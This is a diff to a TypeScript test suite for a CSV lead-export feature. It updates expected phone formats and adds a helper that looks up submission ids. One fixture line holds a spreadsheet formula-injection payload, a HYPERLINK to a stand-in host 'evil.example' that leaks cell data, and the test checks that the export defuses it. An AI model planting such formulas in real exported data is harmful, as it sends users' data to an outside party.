@@ -14,7 +14,7 @@ import { solvedCaptcha } from '../test/altcha.js';
 import { buildTestApi, type TestApi } from '../test/api.js';
 import { createTestDataDir, TEST_DRIVER } from '../test/database.js';
 import { parseCsvRecords } from '../test/parse-csv.js';
-import { newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
+import { newestSubmissionId, newsletterSubscriptionId, quoteRequest } from '../test/submissions.js';
 import { writeLeadsCsv } from './csv.js';
 
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -31,11 +31,11 @@ describe('the lead export on submissions stored through the API', () => {
     newsletter: 0,
   };
 
-  async function store(url: string, body: Record<string, unknown>): Promise<number> {
+  async function store(url: Parameters<typeof newestSubmissionId>[1], body: Record<string, unknown>): Promise<number> {
     const captcha = url === '/api/store/newsletter' ? undefined : await solvedCaptcha(api.app);
     const response = await api.app.inject({ method: 'POST', url, payload: { ...body, consent: true, captcha } });
     expect(response.statusCode, response.body).toBe(201);
-    return (response.json() as { data: { id: number } }).data.id;
+    return newestSubmissionId(api.database.db, url);
   }
 
   async function exportCsv(kind: LeadKind, since?: string) {
@@ -122,7 +122,7 @@ describe('the lead export on submissions stored through the API', () => {
         received_at: '2026-01-10T12:00:00+05:30',
         name: 'Suresh Fuels',
         email: 'suresh@example.in',
-        mobile: '9876511111',
+        mobile: `'+91 98765 11111`,
         vendor_type: 'Fuel Partner',
         message: 'Diesel supply on the NH48.',
         language: 'Hindi',
@@ -145,7 +145,7 @@ describe('the lead export on submissions stored through the API', () => {
     expect(quotes.records[0]).toMatchObject({
       id: String(ids.quote),
       name: 'Meera Shah',
-      phone: '9825012345',
+      phone: `'+91 98250 12345`,
       service: 'Warehousing',
       freight_type: 'Road',
       departure_city: 'Ahmedabad',
@@ -173,7 +173,7 @@ describe('the lead export on submissions stored through the API', () => {
     expect(text).not.toMatch(/(^|,|\r\n)"?[=+\-@]/);
 
     const [contact] = (await exportCsv('contact')).records;
-    expect(contact).toMatchObject({ id: String(ids.contact), name: 'Anita Rao', phone: '098765 44444', subject: "'-Rates for Pune" });
+    expect(contact).toMatchObject({ id: String(ids.contact), name: 'Anita Rao', phone: `'+91 98765 44444`, subject: "'-Rates for Pune" });
     const [reader] = (await exportCsv('newsletter')).records;
     expect(reader).toMatchObject({ id: String(ids.newsletter), email: 'reader@example.in' });
   });
